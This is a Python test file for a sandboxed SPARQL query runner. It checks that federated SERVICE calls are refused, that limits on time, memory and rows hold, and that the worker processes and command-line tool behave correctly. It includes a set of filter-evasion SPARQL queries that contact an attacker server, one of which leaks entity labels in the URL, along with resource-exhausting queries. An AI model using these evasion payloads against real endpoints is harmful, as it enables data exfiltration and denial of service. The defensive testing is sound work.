"""SPARQL that reaches no network and has its limits: the rule for the text, and the processes that answer."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import sys
import threading
import time
import warnings
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pyoxigraph as ox
import pytest
from typer.testing import CliRunner

import chaingraph as cg
from chaingraph.cli.app import app
from chaingraph.graph import ask, load, open_store, write_store
from chaingraph.graph.sparql import Limits, QueryError, Question, Worker, Workers, checked, is_update
from tests.cli.test_commands import TINY

ROOT = Path(__file__).parents[2]
ENDLESS = "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"
LARGE = "SELECT * { ?a ?b ?c . ?d ?e ?f }"
HUNGRY = "SELECT DISTINCT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?i"


def attacks(place: str) -> dict[str, str]:
    """Queries that ask the server at ``place``, or would fool somebody who tells strings from words without a parser."""
    ask_it = f"SERVICE <http://{place}/x> {{ ?x ?y ?z }}"
    names = f'{{ SELECT ?u {{ ?e a cg:Enterprise ; skos:prefLabel ?n BIND(IRI(CONCAT("http://{place}/leak/", ENCODE_FOR_URI(STR(?n)))) AS ?u) }} LIMIT 3 }}'
    return {
        "plain": f"SELECT * {{ {ask_it} }}",
        "silent": f"SELECT * {{ SERVICE SILENT <http://{place}/x> {{ ?x ?y ?z }} }}",
        "small letters": f"SELECT * {{ service <http://{place}/x> {{ ?x ?y ?z }} }}",
        "no space": f"SELECT * {{ SeRvIcEsIlEnT<http://{place}/x>{{?x ?y ?z}} }}",
        "behind a number": f"SELECT * {{ VALUES ?v {{ 1 }} FILTER(?v=1)SERVICE<http://{place}/x>{{?x ?y ?z}} }}",
        "name with hash": f"PREFIX a: <http://a/> SELECT * {{ OPTIONAL {{ ?s a:x\\#y ?o }} {ask_it} }}",
        "name with quote": f"SELECT * {{ OPTIONAL {{ ?s cg:x\\'y ?o }} {ask_it} FILTER(?z != \"'\") }}",
        "lateral": f"SELECT * {{ {names} LATERAL {{ SERVICE ?u {{ ?x ?y ?z }} }} }}",
        "exists": f"SELECT * {{ {names} FILTER EXISTS {{ SERVICE ?u {{ ?x ?y ?z }} }} }}",
        "nested": f"SELECT * {{ {{ SELECT * {{ {{ SELECT * {{ {ask_it} }} }} }} }} }}",
        "union": f"ASK {{ {{ ?s ?p ?o }} UNION {{ {ask_it} }} }}",
        "construct": f"CONSTRUCT {{ ?x ?y ?z }} {{ {ask_it} }}",
        "describe": f"DESCRIBE ?x {{ {ask_it} }}",
        "prefixed": f"PREFIX p: <http://{place}/> SELECT * {{ SERVICEp:x {{ ?x ?y ?z }} }}",
        "escaped": f"SELECT * {{ \\u0053ERVICE <http://{place}/x> {{ ?x ?y ?z }} }}",
        "escaped long": f"SELECT * {{ SERV\\U00000049CE <http://{place}/x> {{ ?x ?y ?z }} }}",
        "escaped twice": f"SELECT * {{ \\u005cu0053ERVICE <http://{place}/x> {{ ?x ?y ?z }} }}",
        "behind a carriage return": f"# \rSELECT * {{ {ask_it} }}",
        "in a string that ends": f'SELECT * {{ BIND("\\\\" AS ?q) {ask_it} BIND("" AS ?r) }}',
    }


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """A web server of the attacker on this computer: its address, and what it was asked."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "application/sparql-results+json")
            self.end_headers()
            self.wfile.write(b'{"head":{"vars":["x"]},"results":{"bindings":[]}}')

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    try:
        yield f"127.0.0.1:{server.server_port}", heard
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def disk(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("store") / "store"
    write_store(load(TINY), folder)
    return folder


@pytest.fixture(scope="module")
def worker(disk: Path) -> Iterator[Worker]:
    with Worker(Limits(seconds=60, rows=1000)) as one:
        one.open(disk)
        yield one


@pytest.mark.parametrize("name", attacks(""))
def test_a_text_that_asks_another_server_is_refused(name: str) -> None:
    with listening() as (place, heard):
        text = attacks(place)[name]
        with pytest.raises(QueryError, match="CONCAT"):
            checked(text)
        with pytest.raises(cg.UsageError, match="SERVICE"):
            ask(ox.Store(), text)
    assert heard == []


@pytest.mark.parametrize(
    "text",
    [
        "# service",
        '"SERVICE"',
        "<http://example.org/services>",
        "\\\\u0053ERVICE",
        "SERVI\\u0043E",
        "ſervice",
        "servıce",
    ],
)
def test_the_word_is_refused_wherever_it_stands(text: str) -> None:
    with pytest.raises(QueryError, match="CONCAT"):
        checked(f"ASK {{ }} {text}")


def test_the_way_out_that_the_refusal_names_works(worker: Worker, tmp_path: Path) -> None:
    told = worker.ask(Question(checked('SELECT (CONCAT("SERV","ICE") AS ?word) {}'), "csv"), tmp_path / "out")
    assert told.path.read_text().split() == ["word", "SERVICE"]


def test_the_bundled_questions_pass() -> None:
    texts = [
        path.read_text("utf-8")
        for folder in ("planner", "questions")
        for path in (ROOT / "ontology" / folder).glob("*.rq")
    ]
    assert len(texts) > 40
    assert all(checked(text) == text for text in texts)


def test_the_network_of_the_processes_is_shut(worker: Worker, tmp_path: Path) -> None:
    """The rule for the text left out on purpose: the kernel refuses."""
    if not worker.shut:
        pytest.skip("this kernel cannot shut a process's network (no seccomp, or not Linux on x86_64 or aarch64)")
    with listening() as (place, heard):
        for text in attacks(place).values():
            with suppress(QueryError):  # refused by the kernel, or no SPARQL at all
                worker.ask(Question(text), tmp_path / "out")
    assert heard == []


def test_the_listener_would_hear() -> None:
    with listening() as (place, heard), suppress(RuntimeError):  # it is no real endpoint
        list(ox.Store().query(f"SELECT * {{ SERVICE <http://{place}/x> {{ ?x ?y ?z }} }}"))  # type: ignore[arg-type]
    assert heard == ["/x"]


@pytest.mark.parametrize("form", ["json", "xml", "csv", "tsv"])
@pytest.mark.parametrize("nasty", ['"', '\\"', "},{", '"}},{"', "<result>", "\n", "\\", "a\\\\", ",", "\r\n"])
def test_rows_are_counted_as_they_are_written(form: str, nasty: str, disk: Path, tmp_path: Path) -> None:
    """Whatever stands in the cells, n rows are n rows: as many as are allowed pass, one more does not."""
    literal = json.dumps(nasty)
    rows = 700
    text = f"SELECT ?a ?x ?n {{ {{ SELECT ?a {{ ?a ?b ?c }} LIMIT {rows} }} BIND({literal} AS ?x) OPTIONAL {{ ?a <urn:none> ?n }} }}"
    for allowed, well in ((rows, True), (rows - 1, False)):
        with Worker(Limits(rows=allowed)) as one:
            one.open(disk)
            if well:
                told = one.ask(Question(text, form), tmp_path / "out")
                assert told.kind == "solutions"
            else:
                with pytest.raises(QueryError, match=rf"more than {allowed} rows"):
                    one.ask(Question(text, form), tmp_path / "out")


def test_a_large_answer_is_cut_while_it_is_made(worker: Worker, tmp_path: Path) -> None:
    with pytest.raises(QueryError, match="1000 rows"):
        worker.ask(Question(LARGE), tmp_path / "out")
    assert (tmp_path / "out").stat().st_size < 5_000_000
    told = worker.ask(Question(LARGE, "page", cut=True), tmp_path / "out")
    assert (len(json.loads(told.path.read_text())["rows"]), told.more) == (1000, True)
    told = worker.ask(Question("CONSTRUCT { ?a ?b ?f } { ?a ?b ?c . ?d ?e ?f }", cut=True), tmp_path / "out")
    assert told.more
    with pytest.raises(QueryError, match="1000 rows"):
        worker.ask(Question("CONSTRUCT { ?a ?b ?f } { ?a ?b ?c . ?d ?e ?f }"), tmp_path / "out")


@pytest.mark.parametrize(
    ("text", "limits", "kind"),
    [
        (ENDLESS, Limits(seconds=0.5), "time"),
        (HUNGRY, Limits(seconds=600, memory=60_000_000), "memory"),
        ("SELECT * { FILTER(" + "(" * 300_000, Limits(), "depth"),
        ("SELECT", Limits(), "syntax"),
        ("INSERT DATA { <urn:a> <urn:b> 1 }", Limits(), "syntax"),
    ],
)
def test_a_query_beyond_a_limit_ends_with_a_sentence(
    text: str, limits: Limits, kind: str, disk: Path, tmp_path: Path
) -> None:
    with Worker(limits) as one:
        one.open(disk)
        with pytest.raises(QueryError) as told:
            one.ask(Question(text), tmp_path / "out")
    if kind == "depth" and told.value.kind == "memory":  # which of both comes first is the machine's
        kind = "memory"
    assert (told.value.kind, bool(told.value.zh)) == (kind, True)


def test_updates_are_known_as_such() -> None:
    for text in (
        "INSERT DATA {}",
        "# x\nPREFIX a: <http://b#c>\nBASE <http://d>\ndelete where { }",
        "LOAD <http://a>",
        "clear all",
        "WITH <a:b> DELETE {} WHERE {}",
    ):
        assert is_update(text)
    for text in ("SELECT * {}", "PREFIX insert: <urn:x> ASK {}", "", "# INSERT"):
        assert not is_update(text)


def test_the_graphs_of_the_protocol_replace_those_of_the_text(worker: Worker, tmp_path: Path) -> None:
    def count(pattern: str, **graphs: tuple[str, ...]) -> int:
        told = worker.ask(
            Question(f"SELECT (COUNT(*) AS ?n) FROM <urn:none> {{ {pattern} }}", "csv", **graphs), tmp_path / "out"
        )  # type: ignore[arg-type]
        return int(told.path.read_text().split()[1])

    graph = ("https://w3id.org/chaingraph/ontology",)
    plain, inside = "?s ?p ?o", "GRAPH ?g { ?s ?p ?o }"
    assert count(plain) == 0
    assert count(plain, default=graph) == count(inside, named=graph) > 100
    assert count(plain, named=graph) == count(inside, default=graph) == 0


def test_questions_wait_are_refused_and_stopped(disk: Path, tmp_path: Path) -> None:
    """Two at once, a bounded number waiting; a cancelled one frees its place, and nothing of it is left."""
    small = Question("ASK { ?s ?p ?o }", "csv")

    async def talk() -> None:
        pool = Workers(disk, tmp_path, Limits(), at_once=2, waiting=3)
        try:
            endless = [asyncio.ensure_future(pool.ask(Question(ENDLESS))) for _ in range(5)]
            await asyncio.sleep(0.2)
            with pytest.raises(QueryError) as busy:
                await pool.ask(small)
            assert busy.value.kind == "busy"
            for one in endless[:4]:
                one.cancel()
            await asyncio.sleep(0)
            assert (await pool.ask(small)).path.read_text() == "true"
            endless[4].cancel()
            await asyncio.gather(*endless, return_exceptions=True)
            last = asyncio.ensure_future(pool.ask(Question(ENDLESS)))
            await asyncio.sleep(0.2)
        finally:
            pool.close()
        with pytest.raises(QueryError) as stopped:
            await last
        assert stopped.value.kind == "stopped"
        with pytest.raises(QueryError):
            await pool.ask(small)

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        asyncio.run(talk())
    assert [path.name for path in tmp_path.iterdir() if path.stat().st_size > 10] == []


def test_a_worker_ends_with_its_parent(disk: Path, tmp_path: Path) -> None:
    """Its input ends when the parent is killed; a query under way does not keep it."""
    one = Worker(Limits())
    one.open(disk)
    one.ready()
    told: list[str] = []

    def asking() -> None:
        try:
            one.ask(Question(ENDLESS), tmp_path / "out")
        except QueryError as error:
            told.append(error.kind)

    thread = threading.Thread(target=asking)
    thread.start()
    time.sleep(0.2)
    assert one._process.stdin is not None
    one._process.stdin.close()
    one._process.wait(timeout=20)
    thread.join(timeout=20)
    assert told == ["failed"]
    one.close()


@pytest.mark.parametrize("name", ["name with hash", "name with quote", "lateral", "escaped", "small letters"])
def test_the_command_asks_nobody(name: str) -> None:
    with listening() as (place, heard):
        done = CliRunner().invoke(app, ["query", str(TINY), attacks(place)[name]])
    assert (type(done.exception), heard) == (QueryError, [])
    assert 'CONCAT("SERV","ICE")' in str(done.exception)


def test_the_command_has_limits_and_says_what_is_wrong(tmp_path: Path) -> None:
    (tmp_path / "gbk.rq").write_bytes("ASK {} # 中".encode("gbk"))
    (tmp_path / "marked.rq").write_text("\ufeffASK { ?s ?p ?o }", "utf-8")
    for words, said in (
        (("13-none",), "those are: 01-needed-but-not-made 02-"),
        ((tmp_path / "none.rq",), "no such file: "),
        ((tmp_path / "gbk.rq",), "is not UTF-8"),
        (("INSERT DATA { <urn:a> <urn:b> 1 }",), "updates (INSERT"),
        ((ENDLESS, "--timeout", "0.5"), "more than 0.5 s"),
        ((LARGE, "--rows", "20"), "more than 20 rows"),
    ):
        done = CliRunner().invoke(app, ["query", str(TINY), *map(str, words)])
        assert isinstance(done.exception, cg.UsageError)
        assert said in str(done.exception)
    assert CliRunner().invoke(app, ["query", str(TINY), str(tmp_path / "marked.rq")]).stdout == "true\n"
    assert "rows" in CliRunner().invoke(app, ["query", str(TINY), "03-sole-makers", "--lang", "en"]).stdout
    described = CliRunner().invoke(app, ["query", str(TINY), "DESCRIBE ?c { ?c a cg:IndustryChain }"]).stdout
    assert "a cg:IndustryChain" in described


def test_ctrl_c_ends_the_command(tmp_path: Path) -> None:
    call = [sys.executable, "-m", "chaingraph", "query", str(TINY), ENDLESS]
    process = subprocess.Popen(
        call,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env={**os.environ, "TMPDIR": str(tmp_path)},
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),  # tests in the background have it ignored
    )
    try:
        until = time.monotonic() + 120
        while not list(tmp_path.glob("*/answer")) and process.poll() is None and time.monotonic() < until:
            time.sleep(0.05)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=30)
    finally:
        process.kill()
    assert (process.returncode, out, b"Traceback" in err) == (130, b"", False)
    assert list(tmp_path.iterdir()) == []


def test_the_answers_are_those_of_the_library(worker: Worker, tmp_path: Path) -> None:
    store = open_store(load(TINY))
    for text in (
        "SELECT ?c ?n { ?c a cg:IndustryChain ; skos:prefLabel ?n } ORDER BY ?c ?n",
        "ASK { ?c a cg:IndustryChain }",
    ):
        told = worker.ask(Question(text), tmp_path / "out")
        assert json.loads(told.path.read_text("utf-8")) == ask(store, text).results
    text = "CONSTRUCT { ?c a cg:IndustryChain } { ?c a cg:IndustryChain }"
    assert worker.ask(Question(text, sorted=True), tmp_path / "out").path.read_text("utf-8") == ask(store, text).turtle
